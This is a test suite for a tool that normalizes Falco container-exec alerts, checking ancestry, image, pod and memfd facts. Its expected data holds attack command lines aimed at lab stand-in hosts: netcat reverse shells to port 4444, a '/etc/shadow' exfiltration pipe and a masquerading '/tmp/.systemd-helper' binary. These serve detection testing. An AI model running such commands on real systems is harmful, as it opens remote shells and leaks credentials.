import { describe, expect, it } from 'vitest';
import type { ExecEvent } from '../../../src/model/exec-event.ts';
import type { FalcoAlert } from '../../../src/sources/falco/message.ts';
import { normalizeAlert } from '../../../src/sources/falco/normalize.ts';
import { openFalcoReader } from '../../../src/sources/falco/reader.ts';
import { silentLog } from '../../../src/telemetry/log.ts';
import { testIntake } from '../../support/intake.ts';
import { recordedLines, recordedMessages } from '../../support/recordings.ts';

function alert(fields: Record<string, string>, more: Partial<FalcoAlert> = {}): FalcoAlert {
  return {
    time: '2026-11-22T22:28:04.300413560Z',
    rule: 'Exec in container',
    priority: 'Informational',
    source: 'syscall',
    hostname: 'node-1',
    tags: [],
    output: '',
    fields: new Map(Object.entries({ 'evt.type': 'execve', 'container.id': '6403692adba9', ...fields })),
    ...more,
  };
}
const normalized = (fields: Record<string, string>) => normalizeAlert(alert(fields), 'falco');

function recorded(name: string): ExecEvent[] {
  const intake = testIntake();
  const reader = openFalcoReader({ source: 'falco', intake, log: silentLog });
  for (const message of recordedMessages(`falco/${name}`)) reader.message(message);
  return intake.events;
}
function byMarker(events: ExecEvent[], marker: string, comm: string): ExecEvent {
  const found = events.find(
    (one) => one.process.comm === comm && one.process.argv.join(' ').includes(marker),
  );
  if (found === undefined) throw new Error(`no exec of ${comm} with ${marker}`);
  return found;
}

describe('recorded exec', () => {
  const events = recorded('scenario');

  it('has the facts of process, container, image and pod', () => {
    const { ancestors: _ancestors, id: _id, ...event } = byMarker(events, 's104', 'nc');
    expect(event).toMatchObject({
      time: expect.stringMatching(/^2026-11-22T22:2\d:\d\d\.\d{9}Z$/),
      sensor: 'falco',
      source: 'falco',
      node: 'vm',
      rule: 'Lab Exec In Container',
      container: {
        id: expect.stringMatching(/^8eca0020cd18[0-9a-f]{52}$/),
        name: 'tools',
        runtime: 'containerd',
        privileged: false,
      },
      image: {
        reference: 'lab.local/base/tools:2.0',
        registry: 'lab.local',
        repository: 'lab.local/base/tools',
        tag: '2.0',
        digest: 'sha256:2bd3c9ea029e5c8179640cd83191266536f2e6e4773998c6a923d9c7d18d07ab',
      },
      pod: { namespace: 'infra', name: 'base-tools-0' },
      process: {
        exe: '/bin/busybox',
        comm: 'nc',
        argv: ['nc', '-w', '1', 's104.lab.invalid', '4444', '-e', '/bin/sh'],
        argv_quality: 'split',
        argv0_known: true,
        pid: 32746,
        uid: 0,
        user: 'root',
        tty: false,
        in_init_tree: false,
        file: { memfd: false, upper_layer: false },
      },
    });
    expect(event.process).not.toHaveProperty('login_uid');
  });

  it('through a descriptor of a memfd carries that as facts', () => {
    expect(byMarker(events, 's122', '3').process).toMatchObject({
      exe: 'memfd:x',
      argv: ['nc', '-w', '1', 's122.lab.invalid', '4444'],
      file: { memfd: true, unlinked: true, upper_layer: false },
      facts: ['exec_by_fd', 'same_pid'],
    });
  });

  it('of busybox by itself tells the applet by argv[0]', () => {
    expect(byMarker(events, 's168', 'exe').process).toMatchObject({
      exe: '/bin/busybox',
      argv: ['nc', '-w', '1', 's168.lab.invalid', '4444'],
      facts: ['self_exe', 'same_pid'],
      in_init_tree: true,
    });
  });

  it('of a masquerading copy tells both names', () => {
    expect(byMarker(events, 's116', '.systemd-helper').process).toMatchObject({
      exe: '/tmp/.systemd-helper',
      argv: ['busybox', 'nc', '-w', '1', 's116.lab.invalid', '4444', '-e', '/bin/sh'],
      argv0_known: true,
      file: { upper_layer: true },
    });
  });

  it('with 8 KB of arguments is truncated', () => {
    const event = events.find((one) => one.process.argv_quality === 'truncated');
    expect(event?.process.argv.slice(0, 6)).toEqual(['curl', '-sS', '-m', '1', '-H', 'X-Data:']);
    expect(events.filter((one) => one.process.argv_quality === 'truncated')).toHaveLength(1);
  });

  it('has the same id over gRPC and HTTP, and every exec has its own', () => {
    const intake = testIntake();
    const reader = openFalcoReader({ source: 'falco', intake, log: silentLog });
    for (const line of recordedLines('falco/scenario.http')) reader.document(line);
    const overGrpc = recorded('scenario-jsonout').map((event) => event.id);
    expect(new Set(overGrpc).size).toBe(104);
    expect(new Set(intake.events.map((event) => event.id))).toEqual(new Set(overGrpc));
  });

  it('seen by two stock rules is one exec, and stock rules are read as far as they reach', () => {
    const stock = recorded('scenario-stock');
    expect([stock.length, new Set(stock.map((event) => event.id)).size]).toEqual([56, 50]);
    const event = byMarker(stock, 's104', 'nc');
    expect(event.process).toMatchObject({
      exe: '/bin/busybox',
      argv: ['nc', '-w', '1', 's104.lab.invalid', '4444', '-e', '/bin/sh'],
      argv0_known: false,
    });
    expect(event.process).not.toHaveProperty('pid');
    expect(event.image).toMatchObject({ reference: 'lab.local/base/tools:2.0' });
    expect(event.image).not.toHaveProperty('digest');
    expect(stock.some((one) => one.process.file?.upper_layer === true)).toBe(true);
  });
});

describe('ancestors of a recorded exec', () => {
  const events = recorded('scenario');
  const chain = (marker: string, comm: string, at = 0) =>
    events
      .filter(
        (one) => one.process.comm === comm && one.ancestors.some((up) => up.argv.join(' ').includes(marker)),
      )
      [at]?.ancestors.map((up) => [up.comm, up.place, up.from]);

  it('end with the runtime', () => {
    expect(chain('s108', 'nc')).toEqual([
      ['sh', 'container', 'sensor'],
      ['runc', 'outside', 'sensor'],
    ]);
  });

  it('come from memory where Falco does not know them any more', () => {
    expect(chain('s164', 'nslookup', 1)).toEqual([
      ['sh', 'container', 'sensor'],
      ['runc', 'outside', 'table'],
    ]);
  });

  it('begin with the programs the same process ran before', () => {
    const event = events.find(
      (one) => one.process.comm === 'sh' && one.ancestors[0]?.comm === '.systemd-helper',
    );
    expect(event?.process.facts).toEqual(['same_pid']);
    expect(event?.ancestors.map((up) => [up.comm, up.place, up.from])).toEqual([
      ['.systemd-helper', 'container', 'table'],
      ['bash', 'container', 'table'],
      ['runc', 'outside', 'sensor'],
    ]);
  });

  it('are taken from the parent of the former program where Falco has lost the parent', () => {
    expect(byMarker(events, 's148', 'nc').ancestors.map((up) => [up.comm, up.from])).toEqual([
      ['env', 'table'],
      ['runc', 'table'],
    ]);
  });

  it('have argv[0] and directory from memory', () => {
    const event = byMarker(events, 's158', 'nc');
    expect(event.ancestors[0]).toMatchObject({
      comm: 'sh',
      exe: '/usr/bin/dash',
      argv: ['/bin/sh', '-c', 'cat /etc/shadow | nc -w 1 s158.lab.invalid 4444'],
      cwd: '/var/www/html',
      from: 'sensor',
    });
  });
});

describe('place of an ancestor', () => {
  const parent = (name: string, exepath?: string) =>
    normalized({ 'proc.name': 'nc', 'proc.pname': name, ...(exepath && { 'proc.pexepath': exepath }) })
      .ancestors[0]?.place;

  it.each([
    ['runc', '/usr/sbin/runc'],
    ['runc:[2:INIT]', undefined],
    ['runc', 'memfd:runc_cloned:/proc/self/exe'],
    ['crun', '/usr/bin/crun'],
    ['conmon', '/usr/bin/conmon'],
    ['containerd-shim', '/home/kubernetes/bin/containerd-shim-runc-v2'],
    ['containerd-shim', '/var/lib/rancher/k3s/data/current/bin/containerd-shim-runc-v2'],
    ['dockerd', '/usr/bin/dockerd'],
    ['systemd', '/usr/lib/systemd/systemd'],
  ])('is outside for %s at %s', (name, path) => {
    expect(parent(name, path)).toBe('outside');
  });

  it.each([
    ['sh', '/usr/bin/dash'],
    ['runc', '/tmp/runc'],
    ['containerd-shim', '/dev/shm/containerd-shim'],
    ['runc', '/usr/bin/python3'],
    ['runcate', undefined],
    ['docker-init', '/sbin/docker-init'],
  ])('is inside for %s at %s', (name, path) => {
    expect(parent(name, path)).toBe('container');
  });

  it('ends the chain once it is outside', () => {
    const event = normalized({
      'proc.name': 'nc',
      'proc.aname[1]': 'sh',
      'proc.aname[2]': 'containerd-shim',
      'proc.aname[3]': 'systemd',
    });
    expect(event.ancestors.map((up) => up.comm)).toEqual(['sh', 'containerd-shim']);
  });

  it('reads the numbered fields of a rule for the parent as well', () => {
    const event = normalized({
      'proc.aname[1]': 'sh',
      'proc.aexe[1]': '-sh',
      'proc.aexepath[1]': '/bin/dash',
      'proc.acmdline[1]': 'sh -c x',
      'proc.apid[1]': '7',
    });
    expect(event.ancestors[0]).toMatchObject({ argv: ['-sh', '-c', 'x'], exe: '/bin/dash', pid: 7 });
  });
});

describe('what a rule may print', () => {
  it('a process of the host has no container, image and pod', () => {
    const event = normalized({
      'container.id': 'host',
      'container.image.repository': 'x',
      'proc.name': 'nc',
    });
    expect(event).not.toHaveProperty('container');
    expect(event).not.toHaveProperty('image');
  });

  it.each([
    ['tty', { 'proc.tty': '34816' }, { tty: true }],
    ['a login user', { 'user.loginuid': '1000' }, { login_uid: 1000 }],
    ['a probe', { 'proc.is_container_liveness_probe': 'true' }, { exec_probe: true }],
    [
      'a deleted file',
      { 'proc.exepath': '/tmp/x (deleted)' },
      { exe: '/tmp/x', file: { deleted: true, unlinked: true } },
    ],
    [
      'flags instead of fields',
      { 'evt.arg.flags': 'EXE_WRITABLE|EXE_UPPER_LAYER' },
      { file: { upper_layer: true } },
    ],
    ['a memfd by its path', { 'proc.exepath': 'memfd:a' }, { file: { memfd: true, unlinked: true } }],
  ])('%s', (_name, fields, process) => {
    expect(normalized({ 'proc.name': 'x', ...fields }).process).toMatchObject(process);
  });

  it('no probe and no tty are not told where Falco cannot know', () => {
    const { process } = normalized({ 'proc.name': 'x', 'proc.is_container_liveness_probe': 'false' });
    expect(process).not.toHaveProperty('exec_probe');
    expect(process).not.toHaveProperty('tty');
    expect(process).not.toHaveProperty('file');
  });

  it('labels of the pod', () => {
    const event = normalized({
      'k8s.pod.name': 'p',
      'k8s.ns.name': 'n',
      'k8s.pod.labels': 'app:web, tier:front',
    });
    expect(event.pod).toEqual({ namespace: 'n', name: 'p', labels: { app: 'web', tier: 'front' } });
  });

  it('an image by digest only', () => {
    const event = normalized({
      'container.image.repository': 'lab.local/a',
      'container.image.digest': `sha256:${'0'.repeat(64)}`,
    });
    expect(event.image).toMatchObject({
      reference: `lab.local/a@sha256:${'0'.repeat(64)}`,
      repository: 'lab.local/a',
    });
    expect(event.image).not.toHaveProperty('mutable_tag');
  });

  it.each([
    ['another container', { 'container.id': '1403692adba9' }, {}],
    ['another program', { 'proc.exepath': '/bin/b' }, {}],
    ['another nanosecond', {}, { time: '2026-11-22T22:28:04.300413561Z' }],
    ['another node', {}, { hostname: 'node-2' }],
  ])('%s is another exec', (_name, fields, more) => {
    const base = { 'proc.name': 'a', 'proc.exepath': '/bin/a' };
    expect(normalizeAlert(alert({ ...base, ...fields }, more), 'f').id).not.toBe(
      normalizeAlert(alert(base), 'f').id,
    );
  });

  it('a longer id of the same container is the same exec', () => {
    const full = { 'container.full_id': `6403692adba9${'0'.repeat(52)}` };
    expect(normalized(full).id).toBe(normalized({}).id);
    expect(normalized(full).container?.id).toHaveLength(64);
  });
});
